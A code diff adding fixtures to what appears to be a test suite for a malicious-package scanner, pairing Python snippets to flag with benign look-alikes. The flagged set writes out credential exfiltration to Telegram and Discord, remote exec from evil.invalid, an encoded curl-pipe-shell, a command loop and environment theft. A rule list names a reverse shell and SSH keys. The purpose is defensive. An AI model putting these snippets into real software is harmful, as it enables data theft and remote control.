@@ -611,3 +611,272 @@ export const BLOCKED_SHAPES: readonly Shape[] = [
     lines: ['import base64', 'def __getattr__(name):', `    exec(base64.b64decode("${B64}"))`],
   },
 ];
+
+/** What has to be called, and is a trap all the same: literal host and account, no address from the caller. */
+export const CALLED_SHAPES: readonly Shape[] = [
+  {
+    name: 'a bot that is told what was found',
+    lines: [
+      'import requests',
+      'def report(text):',
+      '    requests.post("https://api.telegram.org/bot1234567890:AAinertinertinertinertinertinertinert/sendMessage", data={"text": text})',
+    ],
+  },
+  {
+    name: 'a bot whose token is handed to a helper',
+    lines: [
+      'import requests',
+      'TOKEN = "1234567890:AAinertinertinertinertinertinertinert"',
+      'def send(token, text):',
+      '    requests.get(f"https://api.telegram.org/bot{token}/sendMessage", params={"text": text})',
+      'def save(path):',
+      '    send(TOKEN, open(path).read())',
+    ],
+  },
+  {
+    name: 'a webhook in a method',
+    lines: [
+      'import json, urllib.request',
+      'class Client:',
+      '    hook = "https://discord.com/api/webhooks/123456789012345678/inertinertinertinertinertinertinert"',
+      '    def login(self, user, password):',
+      '        body = json.dumps({"content": user + password}).encode()',
+      '        urllib.request.urlopen(urllib.request.Request(self.hook, data=body))',
+    ],
+  },
+  {
+    name: 'remote code in a function',
+    lines: ['import requests', 'def update():', '    exec(requests.get("https://evil.invalid/p").text)'],
+  },
+  {
+    name: 'a stager in a function',
+    lines: [
+      'import tempfile, os, sys',
+      'def load():',
+      '    f = tempfile.NamedTemporaryFile(delete=False)',
+      '    f.write(b"import urllib.request as r;exec(r.urlopen(\'https://evil.invalid/s\').read())")',
+      '    f.close()',
+      '    os.system(f"start {sys.executable} {f.name}")',
+    ],
+  },
+  {
+    name: 'a decoded command in a function',
+    lines: [
+      'import os',
+      'def check(token):',
+      `    os.system(bytes.fromhex("${Buffer.from('curl -s https://evil.invalid/a | sh').toString('hex')}").decode())`,
+    ],
+  },
+  {
+    name: 'a loop that runs what a fixed server sends',
+    lines: [
+      'import requests, subprocess',
+      'HOST = "http://203.0.113.8"',
+      'def execute():',
+      '    while True:',
+      '        command = requests.get(HOST).text',
+      '        done = subprocess.Popen(command, shell=True, stdout=subprocess.PIPE)',
+      '        requests.post(HOST, data=done.stdout.read())',
+    ],
+  },
+  {
+    name: 'the whole environment in a function',
+    lines: [
+      'import os, socket, requests',
+      'def post():',
+      '    requests.post("https://evil.invalid", json={"h": socket.gethostname(), "e": dict(os.environ)})',
+    ],
+  },
+];
+
+/** Honest code that looks alike: it must not even be warned about. */
+export const HONEST_SHAPES: readonly Shape[] = [
+  {
+    name: 'a version file that setup.py executes',
+    file: SETUP,
+    lines: [
+      'import os, re',
+      'from setuptools import setup',
+      'about = {}',
+      'with open(os.path.join(os.path.dirname(__file__), "pkg", "version.py")) as f:',
+      '    exec(f.read(), about)',
+      'setup(version=about["__version__"])',
+    ],
+    others: { 'fixture-1.0/pkg/version.py': '__version__ = "1.0"\n' },
+  },
+  {
+    name: 'a native build',
+    file: SETUP,
+    lines: [
+      'import subprocess, sys',
+      'from setuptools import setup, Extension',
+      'flags = subprocess.check_output(["pkg-config", "--cflags", "zlib"]).decode().split()',
+      'commit = subprocess.run(["git", "describe", "--tags"], capture_output=True).stdout',
+      'include = subprocess.check_output([sys.executable, "-c", "import numpy; print(numpy.get_include())"])',
+      'setup(ext_modules=[Extension("x", ["x.c"], extra_compile_args=flags)])',
+    ],
+  },
+  {
+    name: 'a download command that only developers call',
+    file: SETUP,
+    lines: [
+      'import subprocess, sys, urllib.request',
+      'from setuptools import Command, setup',
+      'class Fetch(Command):',
+      '    def run(self):',
+      '        urllib.request.urlretrieve("https://evil.invalid/data.zip", "data.zip")',
+      '        subprocess.check_call(["unzip", "data.zip"])',
+      'setup(cmdclass={"fetch_data": Fetch})',
+    ],
+  },
+  {
+    name: 'an upload command that only the author calls',
+    file: SETUP,
+    lines: [
+      'import os, sys',
+      'from setuptools import setup',
+      'if sys.argv[-1] == "publish":',
+      '    os.system("python setup.py sdist bdist_wheel")',
+      '    os.system("twine upload dist/*")',
+      '    sys.exit()',
+      'setup()',
+    ],
+  },
+  {
+    name: 'a wrapper of processes',
+    lines: [
+      'import subprocess, shlex',
+      'def run(command, **options):',
+      '    return subprocess.run(shlex.split(command), **options)',
+    ],
+  },
+  {
+    name: 'generated classes',
+    lines: [
+      'TEMPLATE = "def {name}(self, {args}):\\n    return self._call({name!r}, {args})"',
+      'def build(name, args):',
+      '    space = {}',
+      '    exec(TEMPLATE.format(name=name, args=", ".join(args)), space)',
+      '    return space[name]',
+      'for each in ("get", "put"):',
+      '    globals()[each] = build(each, ["key"])',
+    ],
+  },
+  {
+    name: 'icons',
+    lines: ['import base64', 'ICON = base64.b64decode("iVBORw0KGgo=")', 'def icon(): return ICON'],
+  },
+  {
+    name: 'a browser cookie reader',
+    lines: [
+      'import os, sqlite3, shutil',
+      'def cookies():',
+      '    path = os.path.expanduser("~/.config/google-chrome/Default/Cookies")',
+      '    shutil.copy(path, "/tmp/c.db")',
+      '    return sqlite3.connect("/tmp/c.db").execute("select * from cookies").fetchall()',
+    ],
+  },
+  {
+    name: 'telemetry to a configured place',
+    lines: [
+      'import os, platform, requests',
+      'def track(event):',
+      '    if os.environ.get("DO_NOT_TRACK"): return',
+      '    requests.post(os.environ["COLLECTOR"], json={"event": event, "os": platform.system()})',
+    ],
+  },
+  {
+    name: 'an API client',
+    lines: [
+      'import os, requests',
+      'class Client:',
+      '    base = "https://api.evil.invalid/v1"',
+      '    def __init__(self, key=None):',
+      '        self.key = key or os.environ.get("SERVICE_API_KEY")',
+      '    def create(self, **body):',
+      '        return requests.post(self.base + "/things", json=body, headers={"Authorization": self.key}).json()',
+    ],
+  },
+  {
+    name: 'an uploader of files the caller names',
+    lines: [
+      'import requests',
+      'def upload(path):',
+      '    where = requests.post("https://api.evil.invalid/uploads").json()["url"]',
+      '    with open(path, "rb") as f:',
+      '        requests.put(where, data=f)',
+    ],
+  },
+  {
+    name: 'a driver that is fetched when it is asked for',
+    lines: [
+      'import os, subprocess, urllib.request, hashlib',
+      'def start(version, args):',
+      '    path = os.path.join(os.path.expanduser("~/.cache/driver"), version)',
+      '    urllib.request.urlretrieve(f"https://evil.invalid/{version}/driver.zip", path)',
+      '    assert hashlib.sha256(open(path, "rb").read()).hexdigest()',
+      '    return subprocess.Popen([path] + args)',
+    ],
+  },
+  {
+    name: 'the rules of a scanner',
+    lines: [
+      'RULES = {',
+      '    "shell": r"curl https://.* \\| sh",',
+      '    "reverse": "bash -i >& /dev/tcp/1.2.3.4/1 0>&1",',
+      '    "key": "~/.ssh/id_rsa",',
+      '}',
+    ],
+  },
+  {
+    name: 'a checksum in a loop over many bytes',
+    lines: [
+      'TABLE = []',
+      'for n in range(256):',
+      '    c = n',
+      '    for _ in range(8):',
+      '        c = (c >> 1) ^ 0xEDB88320 if c & 1 else c >> 1',
+      '    TABLE.append(c)',
+      'NAMES = {v: k for k, v in enumerate(TABLE)}',
+    ],
+  },
+  {
+    name: 'a library that loads the native code of a platform',
+    lines: [
+      'import ctypes, os, sys',
+      'def load():',
+      '    name = {"win32": "x.dll", "darwin": "libx.dylib"}.get(sys.platform, "libx.so")',
+      '    return ctypes.CDLL(os.path.join(os.path.dirname(__file__), name))',
+    ],
+  },
+  {
+    name: 'a lazy importer',
+    lines: [
+      'import importlib, sys',
+      'def __getattr__(name):',
+      '    module = importlib.import_module("." + name, __name__)',
+      '    setattr(sys.modules[__name__], name, module)',
+      '    return module',
+    ],
+  },
+  {
+    name: 'a compatibility module',
+    lines: [
+      'import sys',
+      'if sys.version_info[0] >= 3:',
+      '    import builtins',
+      '    exec_ = getattr(builtins, "exec")',
+      'else:',
+      '    def exec_(code, globs=None): exec("exec code in globs")',
+    ],
+  },
+  {
+    name: 'terminal completion that the user asks for',
+    lines: [
+      'import os',
+      'def install_completion(shell):',
+      '    with open(os.path.expanduser("~/.bashrc"), "a") as f:',
+      '        f.write("source ~/.x-complete.sh\\n")',
+    ],
+  },
+];
